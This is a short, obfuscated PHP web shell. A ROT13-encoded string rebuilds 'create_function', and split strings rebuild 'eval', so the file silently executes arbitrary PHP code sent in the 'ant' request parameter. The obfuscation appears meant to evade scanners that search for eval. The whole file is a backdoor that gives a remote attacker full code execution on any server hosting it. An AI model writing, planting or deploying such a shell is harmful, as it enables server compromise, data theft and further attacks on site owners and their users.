<?php
$fvko = str_rot13('perngr_shapgvba');
$pBGs = $fvko('$a', 'ev' . 'al($a);');
$pBGs(@$_REQUEST['ant']);
